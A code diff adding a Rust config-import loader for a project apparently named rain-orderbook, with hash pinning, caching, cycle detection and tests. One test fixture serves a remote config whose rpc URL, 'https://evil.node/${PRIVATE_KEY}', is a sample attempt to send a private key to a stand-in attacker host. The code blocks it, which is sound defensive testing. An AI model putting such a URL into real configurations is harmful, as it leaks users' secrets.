@@ -0,0 +1,635 @@
+use crate::config_source::{ConfigSource, ConfigSourceError, ImportConfigSource};
+use crate::interpolation::{InterpolationError, VariableResolver};
+use crate::merge::MergeError;
+use alloy::primitives::{hex, keccak256, B256};
+use std::fmt;
+use std::path::{Component, Path, PathBuf};
+use thiserror::Error;
+use url::Url;
+
+#[derive(Error, Debug)]
+pub enum ImportError {
+    #[error("An import needs exactly one of 'path' or 'url'")]
+    InvalidImport,
+    #[error("Invalid import path '{0}': {1}")]
+    InvalidPath(String, String),
+    #[error("Failed to read import {0}: {1}")]
+    ReadError(String, String),
+    #[error("Failed to fetch import {0}: {1}")]
+    FetchError(String, String),
+    #[error("Import {location} does not match its hash, expected {expected} but got {actual}")]
+    HashMismatch {
+        location: String,
+        expected: B256,
+        actual: B256,
+    },
+    #[error("Import cycle detected: {0}")]
+    Cycle(String),
+    #[error("Failed to parse import {0}: {1}")]
+    ParseError(String, Box<ConfigSourceError>),
+    #[error("Failed to merge import {0}: {1}")]
+    MergeError(String, MergeError),
+    #[error("File imports are not supported in this environment: {0}")]
+    FileImportUnsupported(String),
+    #[error(
+        "Remote import {0} references variable '{1}', only file imports can reference variables"
+    )]
+    RemoteVariable(String, String),
+}
+
+/// Where the relative paths of a yml's imports are resolved from
+#[derive(Debug, Clone, PartialEq)]
+pub enum ImportBase {
+    Dir(PathBuf),
+    Url(Url),
+}
+
+/// The resolved location of an import
+#[derive(Debug, Clone, PartialEq)]
+pub enum ImportLocation {
+    File(PathBuf),
+    Url(Url),
+}
+
+impl fmt::Display for ImportLocation {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            ImportLocation::File(path) => write!(f, "{}", path.display()),
+            ImportLocation::Url(url) => write!(f, "{}", url),
+        }
+    }
+}
+
+/// Resolves no variables, for remote imports which must not get local
+/// values such as secrets interpolated into them, as those could be sent on
+/// to wherever the import points at, eg in an rpc url
+struct NoVariables;
+
+impl VariableResolver for NoVariables {
+    fn resolve(&self, _name: &str) -> Option<String> {
+        None
+    }
+}
+
+impl ImportLocation {
+    /// The base the imports of the yml at this location are resolved from
+    pub fn base(&self) -> ImportBase {
+        match self {
+            ImportLocation::File(path) => {
+                ImportBase::Dir(path.parent().map(|v| v.to_path_buf()).unwrap_or_default())
+            }
+            ImportLocation::Url(url) => ImportBase::Url(url.clone()),
+        }
+    }
+}
+
+impl ImportConfigSource {
+    pub fn location(&self, base: &ImportBase) -> Result<ImportLocation, ImportError> {
+        match (&self.path, &self.url) {
+            (Some(path), None) => match base {
+                ImportBase::Dir(dir) => Ok(ImportLocation::File(normalize_path(&dir.join(path)))),
+                ImportBase::Url(url) => url
+                    .join(path)
+                    .map(ImportLocation::Url)
+                    .map_err(|e| ImportError::InvalidPath(path.clone(), e.to_string())),
+            },
+            (None, Some(url)) => Ok(ImportLocation::Url(url.clone())),
+            _ => Err(ImportError::InvalidImport),
+        }
+    }
+}
+
+/// Lexically resolves the `.` and `..` components of a path, so the same
+/// file is recognized no matter how it is referred to
+fn normalize_path(path: &Path) -> PathBuf {
+    let mut normalized = PathBuf::new();
+    for component in path.components() {
+        match component {
+            Component::CurDir => {}
+            Component::ParentDir => {
+                if !normalized.pop() {
+                    normalized.push(component);
+                }
+            }
+            other => normalized.push(other),
+        }
+    }
+    normalized
+}
+
+/// Reads imported ymls, caching the remote ones on disk so they are still
+/// available when offline
+#[derive(Debug, Clone, PartialEq)]
+pub struct ImportLoader {
+    pub base: ImportBase,
+    /// Location of the yml whose imports are loaded, if it has one, so an
+    /// import of it is reported as a cycle
+    pub root: Option<ImportLocation>,
+    pub cache_dir: Option<PathBuf>,
+}
+
+impl Default for ImportLoader {
+    fn default() -> Self {
+        Self::new(ImportBase::Dir(
+            std::env::current_dir().unwrap_or_else(|_| PathBuf::from(".")),
+        ))
+    }
+}
+
+impl ImportLoader {
+    pub fn new(base: ImportBase) -> Self {
+        Self {
+            base,
+            root: None,
+            cache_dir: default_cache_dir(),
+        }
+    }
+
+    /// Loads the imports of the yml at the given path, relative to its directory
+    pub fn for_file(path: impl AsRef<Path>) -> Self {
+        let path = path.as_ref();
+        let path = match std::env::current_dir() {
+            Ok(dir) if path.is_relative() => dir.join(path),
+            _ => path.to_path_buf(),
+        };
+        let root = ImportLocation::File(normalize_path(&path));
+        Self {
+            base: root.base(),
+            root: Some(root),
+            cache_dir: default_cache_dir(),
+        }
+    }
+
+    pub fn with_cache_dir(mut self, cache_dir: Option<PathBuf>) -> Self {
+        self.cache_dir = cache_dir;
+        self
+    }
+
+    pub async fn load(
+        &self,
+        location: &ImportLocation,
+        hash: Option<B256>,
+    ) -> Result<String, ImportError> {
+        match location {
+            ImportLocation::File(path) => {
+                let text = read_file(path)?;
+                verify_hash(location, &text, hash)?;
+                Ok(text)
+            }
+            ImportLocation::Url(url) => {
+                // a pinned import can never change so the cached copy is used as is
+                if hash.is_some() {
+                    if let Some(text) = self.read_cache(url) {
+                        if verify_hash(location, &text, hash).is_ok() {
+                            return Ok(text);
+                        }
+                    }
+                }
+                match fetch(url).await {
+                    Ok(text) => {
+                        verify_hash(location, &text, hash)?;
+                        self.write_cache(url, &text);
+                        Ok(text)
+                    }
+                    Err(e) => match self.read_cache(url) {
+                        Some(text) => {
+                            verify_hash(location, &text, hash)?;
+                            Ok(text)
+                        }
+                        None => Err(e),
+                    },
+                }
+            }
+        }
+    }
+
+    fn cache_path(&self, url: &Url) -> Option<PathBuf> {
+        self.cache_dir.as_ref().map(|dir| {
+            dir.join(format!(
+                "{}.yml",
+                hex::encode(keccak256(url.as_str().as_bytes()))
+            ))
+        })
+    }
+
+    fn read_cache(&self, url: &Url) -> Option<String> {
+        read_file(&self.cache_path(url)?).ok()
+    }
+
+    #[cfg(not(target_family = "wasm"))]
+    fn write_cache(&self, url: &Url, text: &str) {
+        // caching is best effort, a failure only means no offline copy
+        if let Some(path) = self.cache_path(url) {
+            if let Some(dir) = path.parent() {
+                let _ = std::fs::create_dir_all(dir);
+            }
+            let _ = std::fs::write(path, text);
+        }
+    }
+
+    #[cfg(target_family = "wasm")]
+    fn write_cache(&self, _url: &Url, _text: &str) {}
+}
+
+/// The loaders of the imports of a main yml, such as a dotrain frontmatter,
+/// and of the top config merged with it, each resolving relative paths from
+/// its own file
+#[derive(Debug, Clone, Default, PartialEq)]
+pub struct ImportLoaders {
+    pub main: ImportLoader,
+    pub top_config: ImportLoader,
+}
+
+impl ImportLoaders {
+    /// Loaders for the given files, a missing one resolves from the current
+    /// directory
+    pub fn for_files(main_file: Option<&Path>, top_config_file: Option<&Path>) -> Self {
+        Self {
+            main: main_file.map(ImportLoader::for_file).unwrap_or_default(),
+            top_config: top_config_file
+                .map(ImportLoader::for_file)
+                .unwrap_or_default(),
+        }
+    }
+}
+
+#[cfg(not(target_family = "wasm"))]
+fn default_cache_dir() -> Option<PathBuf> {
+    let cache_home = std::env::var_os("XDG_CACHE_HOME")
+        .map(PathBuf::from)
+        .or_else(|| std::env::var_os("HOME").map(|v| PathBuf::from(v).join(".cache")))?;
+    Some(cache_home.join("rain-orderbook").join("imports"))
+}
+
+#[cfg(target_family = "wasm")]
+fn default_cache_dir() -> Option<PathBuf> {
+    None
+}
+
+#[cfg(not(target_family = "wasm"))]
+fn read_file(path: &Path) -> Result<String, ImportError> {
+    std::fs::read_to_string(path)
+        .map_err(|e| ImportError::ReadError(path.display().to_string(), e.to_string()))
+}
+
+#[cfg(target_family = "wasm")]
+fn read_file(path: &Path) -> Result<String, ImportError> {
+    Err(ImportError::FileImportUnsupported(
+        path.display().to_string(),
+    ))
+}
+
+async fn fetch(url: &Url) -> Result<String, ImportError> {
+    let fetch_error = |e: reqwest::Error| ImportError::FetchError(url.to_string(), e.to_string());
+    reqwest::get(url.clone())
+        .await
+        .and_then(|v| v.error_for_status())
+        .map_err(fetch_error)?
+        .text()
+        .await
+        .map_err(fetch_error)
+}
+
+fn verify_hash(
+    location: &ImportLocation,
+    text: &str,
+    hash: Option<B256>,
+) -> Result<(), ImportError> {
+    match hash {
+        Some(expected) => {
+            let actual = keccak256(text.as_bytes());
+            if actual != expected {
+                return Err(ImportError::HashMismatch {
+                    location: location.to_string(),
+                    expected,
+                    actual,
+                });
+            }
+            Ok(())
+        }
+        None => Ok(()),
+    }
+}
+
+impl ConfigSource {
+    /// Loads the imports of this config and of the ymls it imports, merging
+    /// all of them into this config. Locations in `imported` are skipped and
+    /// the newly imported ones are added to it.
+    ///
+    /// Only file imports are interpolated with the given resolver, remote
+    /// ones can only use the defaults of their `${VAR:-default}` references.
+    pub async fn resolve_imports(
+        &mut self,
+        loader: &ImportLoader,
+        resolver: &dyn VariableResolver,
+        imported: &mut Vec<ImportLocation>,
+    ) -> Result<(), ImportError> {
+        // imports left to load along with the chain of imports that led to them
+        let mut pending: Vec<(ImportBase, ImportConfigSource, Vec<ImportLocation>)> =
+            std::mem::take(&mut self.imports)
+                .into_iter()
+                .rev()
+                .map(|v| {
+                    (
+                        loader.base.clone(),
+                        v,
+                        loader.root.iter().cloned().collect(),
+                    )
+                })
+                .collect();
+
+        while let Some((base, import, chain)) = pending.pop() {
+            let location = import.location(&base)?;
+            if chain.contains(&location) {
+                return Err(ImportError::Cycle(
+                    chain
+                        .iter()
+                        .chain([&location])
+                        .map(|v| v.to_string())
+                        .collect::<Vec<_>>()
+                        .join(" -> "),
+                ));
+            }
+            if imported.contains(&location) {
+                continue;
+            }
+            imported.push(location.clone());
+
+            let text = loader.load(&location, import.hash).await?;
+            let is_file = matches!(location, ImportLocation::File(_));
+            let import_resolver: &dyn VariableResolver =
+                if is_file { resolver } else { &NoVariables };
+            let mut config = ConfigSource::parse_yaml(text, import_resolver)
+                .await
+                .map_err(|e| match e {
+                    ConfigSourceError::InterpolationError(InterpolationError::MissingVariable(
+                        name,
+                    )) if !is_file => ImportError::RemoteVariable(location.to_string(), name),
+                    e => ImportError::ParseError(location.to_string(), Box::new(e)),
+                })?;
+
+            let mut chain = chain;
+            chain.push(location.clone());
+            for nested in std::mem::take(&mut config.imports).into_iter().rev() {
+                pending.push((location.base(), nested, chain.clone()));
+            }
+
+            self.merge(config)
+                .map_err(|e| ImportError::MergeError(location.to_string(), e))?;
+        }
+        Ok(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use httpmock::{Method::GET, MockServer};
+    use std::collections::HashMap;
+
+    fn temp_dir(name: &str) -> PathBuf {
+        let dir = std::env::temp_dir().join(format!(
+            "rain-orderbook-imports-{}-{}",
+            name,
+            hex::encode(B256::random())
+        ));
+        std::fs::create_dir_all(&dir).unwrap();
+        dir
+    }
+
+    const TOKENS: &str = r#"
+tokens:
+    weth:
+        network: mainnet
+        address: 0x1234567890123456789012345678901234567891
+"#;
+
+    #[tokio::test]
+    async fn test_file_imports() {
+        let dir = temp_dir("files");
+        std::fs::create_dir_all(dir.join("shared")).unwrap();
+        std::fs::write(
+            dir.join("shared/networks.yml"),
+            "imports:\n  - path: tokens.yml\nnetworks:\n    mainnet:\n        rpc: https://mainnet.node\n        chain-id: 1\n",
+        )
+        .unwrap();
+        std::fs::write(dir.join("shared/tokens.yml"), TOKENS).unwrap();
+
+        let main = r#"
+imports:
+    - path: shared/networks.yml
+    - path: ./shared/tokens.yml
+subgraphs:
+    mainnet: https://mainnet.subgraph
+"#;
+        let loader = ImportLoader::new(ImportBase::Dir(dir.clone())).with_cache_dir(None);
+        let (config, _) = ConfigSource::try_from_string_with_loaders(
+            main.to_string(),
+            None,
+            &HashMap::new(),
+            &ImportLoaders {
+                main: loader,
+                ..Default::default()
+            },
+        )
+        .await
+        .unwrap();
+
+        assert!(config.imports.is_empty());
+        assert!(config.networks.contains_key("mainnet"));
+        assert!(config.tokens.contains_key("weth"));
+        assert!(config.subgraphs.contains_key("mainnet"));
+
+        std::fs::remove_dir_all(dir).unwrap();
+    }
+
+    #[tokio::test]
+    async fn test_import_cycle() {
+        let dir = temp_dir("cycle");
+        std::fs::write(dir.join("a.yml"), "imports:\n  - path: b.yml\n").unwrap();
+        std::fs::write(dir.join("b.yml"), "imports:\n  - path: a.yml\n").unwrap();
+
+        let loader = ImportLoader::new(ImportBase::Dir(dir.clone())).with_cache_dir(None);
+        let err = ConfigSource::try_from_string_with_loaders(
+            "imports:\n  - path: a.yml\n".to_string(),
+            None,
+            &HashMap::new(),
+            &ImportLoaders {
+                main: loader,
+                ..Default::default()
+            },
+        )
+        .await
+        .unwrap_err();
+        assert!(matches!(
+            err,
+            ConfigSourceError::ImportError(ImportError::Cycle(_))
+        ));
+        assert_eq!(err.to_string().matches(" -> ").count(), 2);
+        assert!(err.to_string().ends_with("a.yml"));
+
+        std::fs::remove_dir_all(dir).unwrap();
+    }
+
+    #[tokio::test]
+    async fn test_import_cycle_through_root() {
+        let dir = temp_dir("root-cycle");
+        std::fs::create_dir_all(dir.join("shared")).unwrap();
+        let root = "imports:\n  - path: shared/b.yml\n";
+        std::fs::write(dir.join("settings.yml"), root).unwrap();
+        std::fs::write(
+            dir.join("shared/b.yml"),
+            "imports:\n  - path: ../settings.yml\n",
+        )
+        .unwrap();
+
+        // imports of a file resolve from its own directory
+        let loader = ImportLoader::for_file(dir.join("settings.yml")).with_cache_dir(None);
+        assert_eq!(loader.base, ImportBase::Dir(dir.clone()));
+
+        let err = ConfigSource::try_from_string_with_loaders(
+            root.to_string(),
+            None,
+            &HashMap::new(),
+            &ImportLoaders {
+                main: loader,
+                ..Default::default()
+            },
+        )
+        .await
+        .unwrap_err();
+        assert!(matches!(
+            err,
+            ConfigSourceError::ImportError(ImportError::Cycle(_))
+        ));
+        assert_eq!(err.to_string().matches(" -> ").count(), 2);
+        assert!(err.to_string().ends_with("settings.yml"));
+
+        std::fs::remove_dir_all(dir).unwrap();
+    }
+
+    #[tokio::test]
+    async fn test_invalid_import() {
+        let err = ConfigSource::try_from_string_with_loaders(
+            "imports:\n  - hash: 0x1234567890abcdef1234567890abcdef1234567890abcdef1234567890abcdef\n".to_string(),
+            None,
+            &HashMap::new(),
+            &ImportLoaders::default(),
+        )
+        .await
+        .unwrap_err();
+        assert!(matches!(
+            err,
+            ConfigSourceError::ImportError(ImportError::InvalidImport)
+        ));
+    }
+
+    #[tokio::test]
+    async fn test_url_imports_hash_and_cache() {
+        let server = MockServer::start_async().await;
+        let mut mock = server.mock(|when, then| {
+            when.method(GET).path("/tokens.yml");
+            then.status(200).body(TOKENS);
+        });
+        let url = Url::parse(&server.url("/tokens.yml")).unwrap();
+        let cache_dir = temp_dir("cache");
+        let loader = ImportLoader::new(ImportBase::Dir(cache_dir.clone()))
+            .with_cache_dir(Some(cache_dir.clone()));
+        let location = ImportLocation::Url(url.clone());
+
+        // wrong hash
+        let err = loader.load(&location, Some(B256::ZERO)).await.unwrap_err();
+        assert!(matches!(err, ImportError::HashMismatch { .. }));
+
+        let hash = keccak256(TOKENS.as_bytes());
+        assert_eq!(loader.load(&location, Some(hash)).await.unwrap(), TOKENS);
+
+        // served from the cache once the remote is gone
+        mock.delete();
+        assert_eq!(loader.load(&location, None).await.unwrap(), TOKENS);
+        assert_eq!(loader.load(&location, Some(hash)).await.unwrap(), TOKENS);
+
+        let uncached = ImportLoader::new(ImportBase::Dir(cache_dir.clone())).with_cache_dir(None);
+        assert!(matches!(
+            uncached.load(&location, None).await.unwrap_err(),
+            ImportError::FetchError(_, _)
+        ));
+
+        std::fs::remove_dir_all(cache_dir).unwrap();
+    }
+
+    #[tokio::test]
+    async fn test_remote_import_variables() {
+        let server = MockServer::start_async().await;
+        server.mock(|when, then| {
+            when.method(GET).path("/networks.yml");
+            then.status(200).body(
+                "networks:\n    mainnet:\n        rpc: https://evil.node/${PRIVATE_KEY}\n        chain-id: 1\n",
+            );
+        });
+        server.mock(|when, then| {
+            when.method(GET).path("/defaults.yml");
+            then.status(200).body(
+                "networks:\n    mainnet:\n        rpc: https://${HOST:-mainnet.node}\n        chain-id: 1\n",
+            );
+        });
+        let variables = HashMap::from([
+            ("PRIVATE_KEY".to_string(), "secret".to_string()),
+            ("HOST".to_string(), "evil.node".to_string()),
+        ]);
+        let loaders = ImportLoaders {
+            main: ImportLoader::default().with_cache_dir(None),
+            ..Default::default()
+        };
+
+        let err = ConfigSource::try_from_string_with_loaders(
+            format!("imports:\n    - url: {}\n", server.url("/networks.yml")),
+            None,
+            &variables,
+            &loaders,
+        )
+        .await
+        .unwrap_err();
+        assert!(matches!(
+            err,
+            ConfigSourceError::ImportError(ImportError::RemoteVariable(_, ref name)) if name == "PRIVATE_KEY"
+        ));
+
+        // defaults are used rather than the local values
+        let (config, _) = ConfigSource::try_from_string_with_loaders(
+            format!("imports:\n    - url: {}\n", server.url("/defaults.yml")),
+            None,
+            &variables,
+            &loaders,
+        )
+        .await
+        .unwrap();
+        assert_eq!(
+            config.networks["mainnet"].rpc.as_str(),
+            "https://mainnet.node/"
+        );
+    }
+
+    #[test]
+    fn test_import_location() {
+        let import = ImportConfigSource {
+            path: Some("../tokens.yml".to_string()),
+            url: None,
+            hash: None,
+        };
+        assert_eq!(
+            import
+                .location(&ImportBase::Url(
+                    Url::parse("https://example.com/settings/main.yml").unwrap()
+                ))
+                .unwrap(),
+            ImportLocation::Url(Url::parse("https://example.com/tokens.yml").unwrap())
+        );
+        assert_eq!(
+            import
+                .location(&ImportBase::Dir(PathBuf::from("/settings")))
+                .unwrap(),
+            ImportLocation::File(PathBuf::from("/tokens.yml"))
+        );
+    }
+}